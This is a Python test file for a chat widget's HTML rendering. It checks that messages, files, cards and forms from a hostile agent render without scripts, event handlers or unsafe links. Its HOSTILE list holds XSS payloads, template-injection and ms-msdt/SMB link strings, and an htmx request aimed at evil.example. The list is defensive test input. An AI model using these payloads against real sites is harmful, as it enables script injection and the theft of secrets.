"""What people and agents write is shown as words, never as code; links lead to the web only."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatproxy.livechat.pushes import _PARSERS, parse_push
from chatproxy.livechat.structures import Thread, User, parse_event
from chatproxy.relay.updates import Conversation, Happened, Snapshot
from tests.chatproxy.json_values import EVENTS, PAYLOADS
from widget.rendering.locale import Locale
from widget.rendering.pushes import html_of

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://shop.example",
    "data:text/html,<script>alert(1)</script>",
    'https://shop.example/" onclick="alert(1)',
    "https://shop.example/'><svg onload=alert(1)>",
    '</section></article><hx-partial hx-target="#composer" hx-get="//evil.example">',
    "{{ settings.SECRET_KEY }}{% load x %}",
    "[a](javascript:alert(1)) ![b](data:image/svg+xml,x) <b onclick=x>",
    "ms-msdt:/id",
    "[a](ms-msdt:/id) <smb://evil.example/x> ![b](/admin/) [c][1]\n\n[1]: intent:x 'y'",
    "www.evil.example\u202egnp.exe",
    "\u0000\ufffe",
    "x" * 5000,
]
ADDRESSES = {"href", "src", "action", "poster", "srcset", "formaction", "data"}
WAYS_OUT = ("https://", "http://", "mailto:", "tel:")
REQUESTS = {"hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch"}
READER = Locale.of("en", "UTC")
NORA = Conversation(customer_id="nora", chat_id="C", thread_id="T", active=True)


class Attributes(HTMLParser):
    """Every element with its attributes, as a browser would read them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def assert_harmless(html: str) -> None:
    for tag, attributes in Attributes(html).elements:
        assert tag not in {"script", "style", "iframe", "object", "embed", "base", "link"}
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "srcdoc", "hx-on", "hx-vals"} or not value.startswith(
                "js:"
            )
            assert name != "style"
            if name in ADDRESSES and value:
                assert value.startswith(("https://", "http://", "mailto:", "tel:", "/", "#")), value
            if name in REQUESTS:
                assert not value.startswith(("//", "http")), value
        if tag == "a" and attributes.get("href"):
            assert attributes["href"].startswith(WAYS_OUT), attributes["href"]
        if tag == "a" and attributes.get("href", "").startswith("http"):
            assert "noopener" in attributes.get("rel", "")
            assert "noreferrer" in attributes.get("rel", "")


def render(event: dict[str, Any]) -> Iterator[str]:
    """The event as each kind of update shows it, written by a hostile agent."""
    hostile = User.parse({"id": "agent", "type": "agent", "name": HOSTILE[1], "avatar": HOSTILE[3]})
    conversation = NORA.with_users((hostile,))
    parsed = parse_event({"id": "T_1", "author_id": "agent", **event})
    yield html_of(Snapshot(conversation, (Thread(id="T", events=(parsed,)),)), READER)
    payload = {"chat_id": "C", "thread_id": "T", "event": {"id": "T_1", **event}}
    for action in ("incoming_event", "event_updated", "incoming_event_preview"):
        if push := parse_push(action, payload):
            yield html_of(Happened(push, conversation), READER)


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("formatting", ["", "commonmark"])
def test_a_hostile_message_is_words(words: str, formatting: str) -> None:
    properties = {"chats": {"formatting": formatting}}
    for html in render({"type": "message", "text": words, "properties": properties}):
        assert_harmless(html)


@pytest.mark.parametrize("words", HOSTILE)
def test_a_hostile_file_is_words(words: str) -> None:
    file = {"name": words, "url": words, "thumbnail_url": words, "thumbnail2x_url": words}
    for size in ({}, {"width": 8, "height": 8}):
        event = {"type": "file", **file, **size, "alternative_text": words, "content_type": words}
        for html in render(event):
            assert_harmless(html)


TEMPLATES = ["cards", "quick_replies", "sticker", "ecommerce", "new"]
BUTTONS = ["url", "webview", "phone", "message", "cancel", "", "new"]


def cards() -> Iterator[Any]:
    """All there are; by day all words, and all buttons, in each template."""
    for card in product(HOSTILE, TEMPLATES, BUTTONS):
        places = map(list.index, (HOSTILE, TEMPLATES, BUTTONS), card)
        is_of_the_day = sum(places) % len(BUTTONS) == 0
        yield pytest.param(*card, marks=[] if is_of_the_day else pytest.mark.night)


@pytest.mark.parametrize(("words", "template", "button"), list(cards()))
def test_a_hostile_card_is_words(words: str, template: str, button: str) -> None:
    pressed = {"text": words, "type": button, "value": words, "postback_id": words}
    element = {
        "title": words,
        "subtitle": words,
        "image": {"url": words, "name": words, "alternative_text": words},
        "buttons": [{**pressed, "target": words, "role": words, "user_ids": [words]}],
        "ecommerce": {"product_id": words, "options": [{"option_id": words, "label": words}]},
    }
    for html in render({"type": "rich_message", "template_id": template, "elements": [element]}):
        assert_harmless(html)


@pytest.mark.parametrize("words", HOSTILE)
def test_a_hostile_form_and_system_message_are_words(words: str) -> None:
    field = {"id": words, "type": words, "label": words, "answer": words}
    events: list[dict[str, Any]] = [
        {"type": "form", "form_id": words, "fields": [field]},
        {"type": "filled_form", "form_id": words, "fields": [field]},
        {"type": "system_message", "text": words, "system_message_type": words},
        {
            "type": "system_message",
            "text": words,
            "system_message_type": "agent_joined",
            "text_vars": {"agent": words},
        },
    ]
    for event in events:
        for html in render(event):
            assert_harmless(html)


@given(EVENTS)
def test_any_event_is_shown_harmlessly(event: dict[str, Any]) -> None:
    for html in render(event):
        assert_harmless(html)


@given(st.sampled_from(sorted(_PARSERS)), PAYLOADS)
def test_any_push_is_shown_harmlessly(action: str, payload: dict[str, Any]) -> None:
    if push := parse_push(action, payload):
        assert_harmless(html_of(Happened(push, NORA.after(push)), READER))
